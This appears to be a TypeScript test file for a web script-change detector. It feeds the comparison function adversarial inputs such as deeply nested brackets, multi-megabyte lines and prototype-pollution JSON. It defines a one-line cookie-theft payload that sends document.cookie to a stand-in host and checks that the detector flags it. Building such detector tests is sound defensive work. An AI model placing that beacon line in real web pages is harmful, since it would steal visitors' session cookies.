// No content can stop a comparison or replace other parts of its result.

import { sayReason } from '@tillwatch/messages/changes'
import { atDepth } from '@tillwatch/testbed/depth'
import { assert, property, string } from 'fast-check'
import { describe, expect, it } from 'vitest'
import { compareScripts, learnVolatile, maskedEqual, matchScripts, sketchOf } from '#changes/index.ts'
import { printOf } from '#changes/scripts/print-of.ts'

const steal = 'navigator.sendBeacon("https://evil.example/c", document.cookie)'

/** Long enough to stall a reader whose work grows faster than its text. */
const long = (size: number) => atDepth(size / 10, size)

describe('hostile contents', () => {
  it.each<[string, string]>([
    ['nested parentheses', '('.repeat(20_000)],
    ['nested lists that close', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
    ['nested JSON', `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`],
    ['a long chain of operators', `a${'+a'.repeat(long(100_000))}`],
    ['a long chain of texts', `x=""${'+"a"'.repeat(20_000)}`],
    ['nested functions', 'function f(){'.repeat(20_000)],
    ['one line of 5 MB', `x="${'a'.repeat(5_000_000)}"`],
    ['many short statements', 'a.b("c");'.repeat(long(30_000))],
    ['quotes that never close', '"\\'.repeat(150_000)],
    ['backquotes', '`${'.repeat(90_000)],
    ['slashes', '/'.repeat(300_000)],
    ['addresses', '//a.b'.repeat(20_000)],
    ['codes', `x="${'104,'.repeat(20_000)}"`],
    ['escapes', `x="${'%41'.repeat(20_000)}"`],
    ['markup', `x="${'<a '.repeat(20_000)}"`],
    ['null characters', '\0'.repeat(25_000)],
    ['a pattern of many names', `var [${'a,'.repeat(150_000)}]=x`],
  ])('of %s are compared', (_, text) => {
    expect(compareScripts(text, `${text}\n`).similarity).toBeGreaterThan(0.9)
    expect(compareScripts('x.y()', text).verdict).not.toBeNull()
    sketchOf(text)
  })

  const kinds: [string, string, (items: string) => string][] = [
    ['a list', '"a",', (items) => `x=[${items}]`],
    ['an object', 'a:1,', (items) => `x={${items}}`],
  ]
  it.each(kinds.slice(0, atDepth(1, 2)))('with very many differing values in data are compared: %s', (_, item, of) => {
    const items = item.repeat(150_000)
    // More values than are examined: unexamined ones do not count as noise.
    expect(compareScripts(of(items), of(`${items}${item}`))).toMatchObject({ verdict: 'capability', reasons: [{ code: 'too-long' }] })
  })

  it('of any text are compared, alone and beside a theft', () => {
    assert(
      property(string({ unit: 'binary', maxLength: 120 }), string({ unit: 'binary', maxLength: 120 }), (one, other) => {
        compareScripts(one, other)
        maskedEqual(one, other, learnVolatile([one, other], printOf(one)))
      }),
    )
  })

  it('with the names of object properties treat them as plain names', () => {
    const names = ['__proto__', 'constructor', 'hasOwnProperty', 'toString', 'valueOf']
    const text = names.map((name) => `x["${name}"] = { "${name}": { "${name}": "${name}" } }; var ${name};`).join('\n')
    expect(compareScripts(text, `${text}\n${steal}`)).toMatchObject({ verdict: 'capability', lines: [{ before: null, after: [6, 6] }] })
    const json = (word: string) => `{"__proto__": {"polluted": "${word}"}, "constructor": {"prototype": {"polluted": 1}}}`
    expect(compareScripts(json('one'), json('two')).verdict).toBe('rebuild')
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
  })

  it('of bytes that are not text are compared by the readable parts', () => {
    const broken = new TextDecoder().decode(new Uint8Array([0xff, 0xfe, 0x61, 0x28, 0x29, 0xc3, 0x28]))
    expect(compareScripts(broken, `${broken};${steal}`).verdict).toBe('capability')
  })

  it('that stop parsing raise an alert, and their content is still reported', () => {
    const before = 'start();\nrun({ a: 1 });'
    expect(compareScripts(before, `${before}\n}}} ${steal}`).reasons.map(({ code }) => code)).toEqual(
      expect.arrayContaining(['unreadable', 'new-host']),
    )
  })

  it('that exceed the comparison limit raise an alert, and only a release excuses them', () => {
    const long = 'a(1);'.repeat(1_600_001)
    expect(compareScripts('a(1)', long)).toMatchObject({
      verdict: 'capability',
      reasons: [{ code: 'too-long', given: { characters: 8_000_005 } }],
    })
    const knowledge = { release: null, contentAccounts: 3, addressAccounts: 3, deploy: null, authorized: false }
    expect(compareScripts('a(1)', long, { knowledge }).verdict).toBe('release')
    expect(compareScripts(long, long).verdict).toBeNull()
  })

  it('put no line or control character into a reason', () => {
    const { reasons } = compareScripts('f("#email")', 'f("#cc-number\\u202e\\n\\u0007")')
    expect(reasons.length).toBeGreaterThan(0)
    expect(reasons.every((reason) => !/[\p{Cc}\p{Cf}]/u.test(sayReason(reason, 'en')))).toBe(true)
  })
})

it('with invalid addresses are matched by other facts', () => {
  const odd = (url: string, id: string) => ({
    id,
    sha256: null,
    kind: 'external',
    url,
    frame: '::',
    elementId: null,
    order: 0,
    sketch: null,
  })
  expect(matchScripts([odd('http://[', 'a')], [odd('http://[', 'b')])).toMatchObject([
    { before: { id: 'a' }, after: { id: 'b' }, by: 'address' },
  ])
})
